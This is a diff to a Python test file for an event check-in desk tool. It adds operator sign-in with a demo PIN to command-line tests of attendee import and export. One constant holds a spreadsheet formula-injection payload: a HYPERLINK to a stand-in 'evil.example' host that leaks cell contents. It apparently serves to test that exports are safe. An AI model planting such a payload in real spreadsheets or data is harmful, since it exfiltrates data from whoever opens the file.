@@ -18,13 +18,20 @@ from nightout_desk.services.checkin import checkins, households
 from tests.conftest import make_desk
 
 SAMPLES = Path(__file__).resolve().parent.parent / "resources" / "samples"
+PAT = ("--operator", "Pat Organizer")  # a name with no account: on a database without accounts, no one is checked
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your ticket")'
 
 
-def nightout(*args: str, db: Path | None = None) -> subprocess.CompletedProcess:
-    command = [sys.executable, "-m", "nightout_desk", *(["--db", str(db)] if db else []), *map(str, args)]
+def nightout(*args: str, db: Path | None = None, who: str | None = None, pin: str = "2026",
+             stdin: str | None = None) -> subprocess.CompletedProcess:
+    """A real `python -m nightout_desk`; `who` signs in with --operator, the PIN in NIGHTOUT_PIN (the demo's 2026)."""
+    command = [sys.executable, "-m", "nightout_desk", *(["--db", str(db)] if db else []),
+               *(["--operator", who] if who else []), *map(str, args)]
     env = {**os.environ, "QT_QPA_PLATFORM": "offscreen"}
-    return subprocess.run(command, capture_output=True, text=True, timeout=180, env=env,
+    env.pop("NIGHTOUT_PIN", None)
+    if who:
+        env["NIGHTOUT_PIN"] = pin
+    return subprocess.run(command, capture_output=True, text=True, timeout=180, env=env, input=stdin,
                           cwd=Path(__file__).resolve().parent.parent)
 
 
@@ -65,13 +72,16 @@ def test_a_demo_night_then_the_eventbrite_import_then_the_export(tmp_path):
     demo = nightout("demo", "--households", "50", db=db)
     assert demo.returncode == 0, demo.stderr
     assert "with 50 households" in demo.stdout
+    assert "“Demo Organizer” and “Demo Lieutenant”, both with the PIN 2026" in demo.stdout
 
-    dry = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", "--dry-run", db=db)
+    dry = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", "--dry-run", db=db)  # no one: a preview
     assert dry.returncode == 0, dry.stderr
     assert "Format: Eventbrite attendee report (UTF-8 with BOM, comma-separated, header on line 1)" in dry.stdout
     assert "Dry run: nothing was written (13 households would be added)." in dry.stdout
 
-    first = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", db=db)
+    anonymous = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", db=db)
+    assert anonymous.returncode == 1 and "needs --operator NAME" in anonymous.stderr
+    first = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", db=db, who="Demo Organizer")
     assert first.returncode == 0, first.stderr
     out = first.stdout
     assert "  Last name        last_name        <- “Last Name”" in out
@@ -81,15 +91,16 @@ def test_a_demo_night_then_the_eventbrite_import_then_the_export(tmp_path):
     assert "  line 37: the attendee status is “Deleted”" in out
     assert "Imported 13 households from eventbrite_attendees.csv. 5 rows were skipped." in out
 
-    again = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", db=db)
+    again = nightout("import", "attendees", SAMPLES / "eventbrite_attendees.csv", db=db, who="Demo Organizer")
     assert again.returncode == 0, again.stderr
     assert "Imported 0 households from eventbrite_attendees.csv. 13 were already there (not changed)." in again.stdout
 
-    generic = nightout("import", "attendees", SAMPLES / "generic_households.csv", "--format", "generic", db=db)
+    generic = nightout("import", "attendees", SAMPLES / "generic_households.csv", "--format", "generic", db=db,
+                       who="Demo Lieutenant")
     assert generic.returncode == 0 and "Imported 5 households" in generic.stdout
 
     out_dir = tmp_path / "export"
-    export = nightout("export", out_dir, db=db)
+    export = nightout("export", out_dir, db=db, who="Demo Organizer")
     assert export.returncode == 0, export.stderr
     written = {Path(line).name for line in export.stdout.split()}
     assert {"households.csv", "check_ins.csv", "audit_log.csv"} <= written
@@ -147,12 +158,12 @@ def test_a_users_mistake_gives_one_line_exit_1_and_no_traceback(tmp_path, case, 
     not_a_db.write_text("shopping list\n" * 200, encoding="utf-8")
     args = {
         "missing file": (db, "import", "attendees", tmp_path / "nope.csv"),
-        "no event": (tmp_path / "fresh.sqlite3", "import", "attendees", SAMPLES / "eventbrite_attendees.csv"),
+        "no event": (tmp_path / "fresh.sqlite3", *PAT, "import", "attendees", SAMPLES / "eventbrite_attendees.csv"),
         "database is a folder": (tmp_path, "events"),
         "database is not a database": (not_a_db, "events"),
-        "picture renamed csv": (db, "import", "attendees", png),
-        "list without a name column": (db, "import", "attendees", nameless),
-        "unknown mapping column": (db, "import", "attendees", nameless, "--map", "family_name=Surname"),
+        "picture renamed csv": (db, *PAT, "import", "attendees", png),
+        "list without a name column": (db, *PAT, "import", "attendees", nameless),
+        "unknown mapping column": (db, *PAT, "import", "attendees", nameless, "--map", "family_name=Surname"),
         "unknown event": (db, "export", tmp_path / "out", "--event", "Nowhere 1999"),
         "export onto a file": (db, "export", png),
         "negative demo": (db, "demo", "--households", "-3"),
